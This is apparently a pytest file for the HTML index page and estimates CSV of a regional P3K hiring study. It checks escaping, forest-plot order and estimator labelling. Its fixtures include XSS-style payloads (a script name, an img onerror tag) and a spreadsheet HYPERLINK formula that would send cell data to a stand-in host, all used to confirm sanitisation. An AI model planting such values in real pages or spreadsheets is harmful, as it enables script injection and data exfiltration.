"""The index page (templates/index.html.j2): escaping, forest order, regions without an estimate,
the estimator named. Built from RegionOutcome objects directly, so no notebook runs."""

from __future__ import annotations

import re

import pandas as pd
import pytest
from fixtures_panel import SCRIPT_NAME

from p3k_study.reports import index
from p3k_study.reports.batch import RegionOutcome

ESTIMATOR = "p3k_study.estimate.twfe (pyfixest feols, CRV1)"


def estimate(value: float | None, note: str | None = None, **extra: object) -> dict:
    half = None if value is None else 0.5
    return {"estimate": value, "std_error": half,
            "ci_low": None if value is None else value - 1, "ci_high": None if value is None
            else value + 1, "p_value": None if value is None else 0.01, "n_units": 10,
            "n_treated": 4, "n_comparison": 6, "estimator": ESTIMATOR, "note": note,
            "available": value is not None, **extra}


def outcome(region: str, name: str, est: dict | None, status: str = "rendered",
            **summary: object) -> RegionOutcome:
    body = {"name": name, "n_units": 10, "n_treated": 4, "n_comparison": 6, "too_few": False,
            "synthetic": True, "national": {"estimate": 1.0}, **summary}
    if est is not None:
        body["estimate"] = est
    return RegionOutcome(region, name, f"{region}-x", status, summary=body)


@pytest.fixture
def outcomes() -> list[RegionOutcome]:
    return [
        outcome("11.01", "Kabupaten Simeulue", estimate(0.5)),
        outcome("11.02", SCRIPT_NAME, estimate(3.0)),
        outcome("11.03", "Kabupaten <b>Tebal</b>", estimate(None, note="no unit hired P3K "
                                                                      "<img src=x onerror=1>")),
        outcome("11.04", "Kota Banda Aceh", estimate(-1.25), status="skipped"),
        outcome("11.05", "Kota Sabang", estimate(1.75, method="twfe", df=9)),
        RegionOutcome("xx.99", "", "xx.99", "failed", error="UnknownRegion: 'xx.99' <here>"),
    ]


def test_strings_from_data_are_escaped(outcomes):
    html = index.index_html(outcomes, "pemda", "en")
    assert "<script" not in html.lower() and "<b>" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "Kabupaten &lt;b&gt;Tebal&lt;/b&gt;" in html
    assert "&lt;img src=x onerror=1&gt;" in html
    assert "UnknownRegion: &#39;xx.99&#39; &lt;here&gt;" in html
    assert html.count("<img ") == 1  # the forest plot, and nothing a name smuggled in


def test_forest_is_sorted_by_estimate_highest_at_the_top(outcomes, monkeypatch):
    drawn = []
    original = index.plots.forest

    def spy(*args, **kwargs):
        fig = original(*args, **kwargs)
        drawn.append(fig)
        return fig

    monkeypatch.setattr(index.plots, "forest", spy)
    html = index.index_html(outcomes, "pemda", "en")
    [fig] = drawn
    ax = fig.axes[0]
    ticks = sorted(zip(ax.get_yticks(), (label.get_text() for label in ax.get_yticklabels()),
                       strict=True), reverse=True)  # top of the plot first
    codes = [label.split()[0] for _, label in ticks]
    assert codes == ["11.02", "11.05", "11.01", "11.04"]  # 3.0, 1.75, 0.5, -1.25
    assert list(index.forest_rows(index.estimates_table(outcomes, "pemda"))["region"]) == codes
    assert "highest 11.02 &lt;script&gt;" in html and "lowest 11.04 Kota Banda Aceh" in html


def test_regions_without_an_estimate_are_listed_below_the_plot_with_the_reason(outcomes):
    html = index.index_html(outcomes, "pemda", "en")
    listed = re.search(r'<ul class="not-estimated">(.*?)</ul>', html, flags=re.S)
    assert listed is not None
    items = re.findall(r"<li>(.*?)</li>", listed.group(1), flags=re.S)
    assert len(items) == 2
    assert "11.03" in items[0] and "no unit hired P3K" in items[0]
    assert "xx.99" in items[1] and "failed: UnknownRegion" in items[1]
    assert html.index("<img ") < html.index('class="not-estimated"') < html.index("<table>")
    assert "Regions without an estimate" in html


def test_the_page_names_the_estimator(outcomes):
    html = index.index_html(outcomes, "pemda", "id")
    assert f"Angka berasal dari penduga: {ESTIMATOR}" in html
    other = [*outcomes, outcome("11.06", "Kota Langsa", estimate(2.0, estimator="did2s"))]
    assert f"{ESTIMATOR}; did2s" in index.index_html(other, "pemda", "en")


def test_summaries_with_missing_keys_still_give_a_page():
    sparse = [outcome("11.01", "A", {"estimate": 1.0}),
              outcome("11.02", "B", None),
              RegionOutcome("11.03", "C", "11.03-c", "rendered", summary=None)]
    html = index.index_html(sparse, "pemda", "en")
    assert "Numbers from the estimator" not in html  # none is known: nothing is claimed
    assert html.count("<li>") == 2 and "no reason recorded" in html
    assert html.count("<tr>") == 1 + 3


def test_no_estimate_at_all_gives_no_plot():
    html = index.index_html([outcome("11.01", "A", estimate(None, note="too few units"))],
                            "pemda", "en")
    assert "<img" not in html and "too few units" in html


def test_estimates_csv_names_the_estimator(outcomes, tmp_path):
    index.write_estimates(tmp_path, outcomes, "pemda")
    csv = pd.read_csv(tmp_path / "estimates.csv", dtype={"region": str}).set_index("region")
    assert list(csv.reset_index().columns) == index.ESTIMATE_COLUMNS
    assert csv.loc["11.01", "estimator"] == ESTIMATOR
    assert pd.isna(csv.loc["xx.99", "estimator"])


def test_too_few_units_is_noted_in_the_table():
    html = index.index_html([outcome("11.01", "A", estimate(1.0), too_few=True),
                             outcome("11.02", "B", estimate(2.0))], "pemda", "en")
    assert html.count("too few units") == 1


def test_estimates_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path):
    """A region name from the raw files that begins like a formula is written with a leading
    quote in estimates.csv (OWASP, as prepare's CSVs); the Parquet copy keeps it; numbers
    (negative estimates) stay numbers."""
    name = '=HYPERLINK("http://x.example/?"&A1,"Kota")'
    rows = [outcome("11.01", name, estimate(-1.5)), outcome("11.02", "@SUM(1)", estimate(2.0))]
    index.write_estimates(tmp_path, rows, "pemda")
    csv = pd.read_csv(tmp_path / "estimates.csv", dtype={"region": str}).set_index("region")
    assert csv.loc["11.01", "name"] == "'" + name
    assert csv.loc["11.02", "name"] == "'@SUM(1)"
    assert csv.loc["11.01", "estimate"] == -1.5
    parquet = pd.read_parquet(tmp_path / "estimates.parquet").set_index("region")
    assert parquet.loc["11.01", "name"] == name
